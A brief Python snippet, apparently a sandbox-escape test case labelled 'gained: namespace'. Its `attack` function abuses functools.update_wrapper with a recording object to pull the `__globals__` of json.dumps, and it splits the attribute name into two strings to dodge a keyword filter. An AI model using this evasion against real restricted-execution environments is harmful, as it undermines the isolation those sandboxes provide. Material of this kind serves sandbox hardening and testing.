# gained: namespace
from functools import update_wrapper
from typing import Any, cast
import json


class Sink:
    def __setattr__(self, name: str, value: Any) -> None:
        HEARD.append(value)


HEARD: list[Any] = []


def attack(path: str) -> Any:
    update_wrapper(cast(Any, Sink()), json.dumps, assigned=("__glo" + "bals__",), updated=())
    return HEARD[0]
